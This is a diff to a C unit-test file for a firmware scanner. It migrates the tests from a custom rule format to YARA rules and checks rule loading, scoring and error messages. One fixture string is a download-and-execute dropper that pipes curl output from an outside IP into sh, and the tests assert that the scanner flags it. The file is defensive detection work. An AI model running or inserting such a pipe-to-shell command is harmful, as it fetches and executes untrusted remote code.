@@ -14,6 +14,7 @@
 #include <cmocka.h>
 
 #include "scanner/analyze.h"
+#include "scanner/yara_rules.h"
 
 #define MIB (1024 * 1024)
 
@@ -86,7 +87,7 @@ static size_t count_kind(const struct analyze_result *r, const char *kind)
 }
 
 /* Analyzes a copy of p at its exact length (ASan sees any overread). */
-static void run(const uint8_t *p, size_t len, const struct analyze_rules *rules, const struct analyze_limits *lim,
+static void run(const uint8_t *p, size_t len, const struct scan_yara *rules, const struct analyze_limits *lim,
 		struct analyze_result *res)
 {
 	struct fw_err err;
@@ -101,22 +102,35 @@ static void run(const uint8_t *p, size_t len, const struct analyze_rules *rules,
 	free(copy);
 }
 
-static struct analyze_rules *rules_default(void)
+/* The shipped YARA rules (scanner/rules/fwgate.yar, built in). */
+static struct scan_yara *rules_default(void)
 {
-	struct analyze_rules *rules = NULL;
+	struct scan_yara *rules = NULL;
 	struct fw_err err;
-	char text[16384];
-	FILE *f = fopen(FW_SOURCE_ROOT "/scanner/analyze.rules", "r");
-	size_t n;
 
-	assert_non_null(f);
-	n = fread(text, 1, sizeof(text), f);
-	assert_true(n > 0 && n < sizeof(text));
-	fclose(f);
 	fw_err_clear(&err);
-	if (analyze_rules_load(&rules, text, n, &err) != 0)
+	if (scan_yara_load(&rules, NULL, 0, &err) != 0)
 		fail_msg("%s", fw_err_msg(&err));
-	assert_true(analyze_rules_count(rules) >= 20);
+	assert_true(scan_yara_count(rules) >= 20);
+	return rules;
+}
+
+/* Rules from text, through a file as [scanner] yara_rules names one. */
+static struct scan_yara *rules_text(const char *text, struct fw_err *err)
+{
+	static char paths[1][FW_PATH_MAX];
+	char name[] = "/tmp/fwgate-test-yara-XXXXXX";
+	struct scan_yara *rules = NULL;
+	int fd = mkstemp(name);
+
+	assert_true(fd >= 0);
+	assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
+	close(fd);
+	snprintf(paths[0], sizeof(paths[0]), "%s", name);
+	fw_err_clear(err);
+	if (scan_yara_load(&rules, (const char(*)[FW_PATH_MAX])paths, 1, err) != 0)
+		rules = NULL;
+	unlink(name);
 	return rules;
 }
 
@@ -167,7 +181,7 @@ static void pe_build(uint8_t *b, size_t len, bool plus, uint16_t subsystem, uint
 static void test_clean_firmware(void **state)
 {
 	struct analyze_result res;
-	struct analyze_rules *rules = rules_default();
+	struct scan_yara *rules = rules_default();
 	uint8_t *b = malloc(MIB);
 
 	(void)state;
@@ -187,7 +201,7 @@ static void test_clean_firmware(void **state)
 	run(b, MIB, rules, NULL, &res);
 	assert_null(find(&res, "embedded-elf"));
 	analyze_result_clear(&res);
-	analyze_rules_free(rules);
+	scan_yara_free(rules);
 	free(b);
 }
 
@@ -196,7 +210,7 @@ static const char dropper[] = "curl -s http://198.51.100.7/x | sh";
 static void test_embedded_elf_and_dropper(void **state)
 {
 	struct analyze_result res;
-	struct analyze_rules *rules = rules_default();
+	struct scan_yara *rules = rules_default();
 	const struct analyze_finding *f;
 	uint8_t *b = malloc(MIB);
 	json_t *doc;
@@ -219,8 +233,8 @@ static void test_embedded_elf_and_dropper(void **state)
 	assert_non_null(strstr(f->detail, "198.51.100.7"));
 	f = must(&res, "download-exec");
 	assert_int_equal(f->offset, 0x20001);
-	assert_int_equal(count_kind(&res, "rule"), 2);   /* curl-silent, pipe-to-sh */
-	assert_non_null(strstr(must(&res, "rule")->detail, "curl-silent"));
+	assert_int_equal(count_kind(&res, "yara"), 2);   /* curl_silent, pipe_to_sh */
+	assert_string_equal(must(&res, "yara")->detail, "curl_silent [download]");
 	assert_true(res.score >= 60);
 	doc = analyze_result_json(&res);
 	assert_non_null(doc);
@@ -231,7 +245,7 @@ static void test_embedded_elf_and_dropper(void **state)
 							      "kind")), f->kind);
 	json_decref(doc);
 	analyze_result_clear(&res);
-	analyze_rules_free(rules);
+	scan_yara_free(rules);
 	free(b);
 }
 
@@ -501,101 +515,52 @@ static void test_strings(void **state)
 
 static void test_rules_match(void **state)
 {
-	static const char text[] = "# comment\r\n\n  esc 7 string \"A\\x00B\\\\\\\"\" # trailing comment\r\n"
-				   "mz 3 hex 4d5a9000\nnever 1000 hex 0102030405\none 2 string \"Q\"\n";
+	static const char text[] = "rule esc : t1 t2 { meta: score = 7 strings: $a = { 41 00 42 5c 22 } condition: $a }\n"
+				   "rule mz { meta: severity = \"high\" strings: $a = \"MZ\\x90\\x00\" condition: $a }\n"
+				   "rule never { meta: score = 1000 strings: $a = { 01 02 03 04 05 } condition: $a }\n"
+				   "rule one { meta: score = 2 severity = 90 strings: $a = \"Q\" condition: #a == 2 }\n"
+				   "rule bad : x { meta: verdict = \"suspicious\" condition: uint16(9) == 0x5a4d }\n"
+				   "rule worst { meta: verdict = \"malicious\" condition: filesize > 1000000 }\n";
 	static const uint8_t buf[] = "xxA\0B\\\"yyMZ\x90\0zzQzzQ";
-	struct analyze_rules *rules = NULL;
+	struct scan_yara *rules;
 	struct analyze_result res;
 	struct fw_err err;
 
 	(void)state;
-	fw_err_clear(&err);
-	assert_int_equal(analyze_rules_load(&rules, text, strlen(text), &err), 0);
-	assert_int_equal(analyze_rules_count(rules), 4);
+	rules = rules_text(text, &err);
+	if (rules == NULL)
+		fail_msg("%s", fw_err_msg(&err));
+	assert_int_equal(scan_yara_count(rules), 6);
 	run(buf, sizeof(buf) - 1, rules, NULL, &res);
-	assert_int_equal(count_kind(&res, "rule"), 3);
-	assert_string_equal(res.findings[0].detail, "esc: \"A\\x00B\\x5c\"\"");
+	assert_int_equal(count_kind(&res, "yara"), 4);
+	assert_string_equal(res.findings[0].detail, "esc [t1,t2]");
 	assert_int_equal(res.findings[0].offset, 2);
 	assert_int_equal(res.findings[1].offset, 9);
+	assert_int_equal(res.findings[1].weight, 50);   /* severity high */
 	assert_int_equal(res.findings[2].offset, 15);   /* first of two matches */
-	assert_int_equal(res.score, 7 + 3 + 2);
+	assert_int_equal(res.findings[2].weight, 2);    /* score wins over severity */
+	assert_string_equal(res.findings[3].detail, "bad [x] (verdict suspicious)");
+	assert_int_equal(res.score, 7 + 50 + 2 + ANALYZE_YARA_SUSPICIOUS);
 	analyze_result_clear(&res);
-	analyze_rules_free(rules);
-	analyze_rules_free(NULL);
-}
-
-static void rules_refused(const char *text, const char *want)
-{
-	struct analyze_rules *rules = NULL;
-	struct fw_err err;
-
-	fw_err_clear(&err);
-	assert_int_equal(analyze_rules_load(&rules, text, strlen(text), &err), -1);
-	assert_null(rules);
-	assert_string_equal(fw_err_msg(&err), want);
+	scan_yara_free(rules);
+	scan_yara_free(NULL);
 }
 
 static void test_rules_errors(void **state)
 {
-	size_t big = 1001 * 24 + 4200;
-	char *t = malloc(big);
-	size_t o = 0;
-	struct analyze_rules *rules = NULL;
 	struct fw_err err;
 
 	(void)state;
-	assert_non_null(t);
-	rules_refused("ok 5 string \"a\"\nbad 0 string \"x\"\n",
-		      "rules:2: bad weight \"0\": use a whole number from 1 to 1000");
-	rules_refused("a 1001 string \"x\"", "rules:1: bad weight \"1001\": use a whole number from 1 to 1000");
-	rules_refused("a 5x string \"x\"", "rules:1: bad weight \"5x\": use a whole number from 1 to 1000");
-	rules_refused("# c\n\na 5 regex \"x\"", "rules:3: unknown pattern kind \"regex\": use string or hex");
-	rules_refused("a 5 hex 4d5", "rules:1: bad hex \"4d5\": use pairs of hex digits");
-	rules_refused("a 5 hex 4g", "rules:1: bad hex \"4g\": use pairs of hex digits");
-	rules_refused("bad/name 5 string \"x\"", "rules:1: bad name: use 1 to 64 characters of A-Z a-z 0-9 _ . -");
-	rules_refused("a 5 string \"abc", "rules:1: unterminated string");
-	rules_refused("a 5 string \"\\q\"", "rules:1: bad escape in string: use \\xNN, \\\\, \\\", \\t, \\n or \\r");
-	rules_refused("a 5 string \"\"", "rules:1: empty pattern");
-	rules_refused("a 5 string \"x\" junk", "rules:1: unexpected text after the pattern");
-	rules_refused("a 5", "rules:1: expected NAME WEIGHT KIND PATTERN");
-	rules_refused("a 5 string x", "rules:1: a string pattern must be in double quotes");
-	rules_refused("a 5 string \"x\"\na 6 hex 00", "rules:2: the name a is already used on line 1");
-	/* Names: 64 characters are fine, 65 are not. */
-	o = (size_t)snprintf(t, big, "%.64s 1 hex 00", "nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn");
-	fw_err_clear(&err);
-	assert_int_equal(analyze_rules_load(&rules, t, o, &err), 0);
-	analyze_rules_free(rules);
-	rules_refused("nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn 1 hex 00",
-		      "rules:1: bad name: use 1 to 64 characters of A-Z a-z 0-9 _ . -");
-	/* Patterns: 256 bytes are fine, 257 are not, as string or hex. */
-	o = (size_t)snprintf(t, big, "a 1 string \"");
-	memset(t + o, 'p', 256);
-	memcpy(t + o + 256, "\"", 2);
-	fw_err_clear(&err);
-	assert_int_equal(analyze_rules_load(&rules, t, strlen(t), &err), 0);
-	analyze_rules_free(rules);
-	memcpy(t + o + 256, "p\"", 3);
-	rules_refused(t, "rules:1: the pattern is longer than 256 bytes");
-	o = (size_t)snprintf(t, big, "a 1 hex ");
-	memset(t + o, 'a', 514);
-	t[o + 514] = '\0';
-	rules_refused(t, "rules:1: the pattern is longer than 256 bytes");
-	/* Lines: 4096 bytes at most. */
-	o = (size_t)snprintf(t, big, "# ");
-	memset(t + o, 'c', 4095);
-	t[o + 4095] = '\0';
-	rules_refused(t, "rules:1: the line is longer than 4096 bytes");
-	/* Rules: 1000 are fine, 1001 are not. */
-	o = 0;
-	for (int i = 0; i < 1000; i++)
-		o += (size_t)snprintf(t + o, big - o, "r%d 1 string \"x%d\"\n", i, i);
-	fw_err_clear(&err);
-	assert_int_equal(analyze_rules_load(&rules, t, o, &err), 0);
-	assert_int_equal(analyze_rules_count(rules), 1000);
-	analyze_rules_free(rules);
-	snprintf(t + o, big - o, "r1000 1 string \"y\"\n");
-	rules_refused(t, "rules:1001: more than 1000 rules");
-	free(t);
+	assert_null(rules_text("rule a { condition: true }\n\nrule b { strings: $a = \"x\" condition: $b }\n", &err));
+	assert_non_null(strstr(fw_err_msg(&err), ":3: undefined string \"$b\""));
+	assert_int_equal(fw_err_code(&err), FW_E_CONFIG);
+	assert_null(rules_text("rule a { meta: verdict = \"bad\" condition: true }", &err));
+	assert_string_equal(fw_err_msg(&err), "YARA rule a: meta verdict must be \"malicious\" or \"suspicious\"");
+	assert_null(rules_text("rule a { meta: score = 1001 condition: true }", &err));
+	assert_string_equal(fw_err_msg(&err), "YARA rule a: meta score must be an integer from 0 to 1000");
+	assert_null(rules_text("rule a { meta: severity = \"huge\" condition: true }", &err));
+	assert_string_equal(fw_err_msg(&err),
+			    "YARA rule a: meta severity must be an integer from 0 to 1000 or low, medium, high, critical");
 }
 
 static void test_max_bytes(void **state)
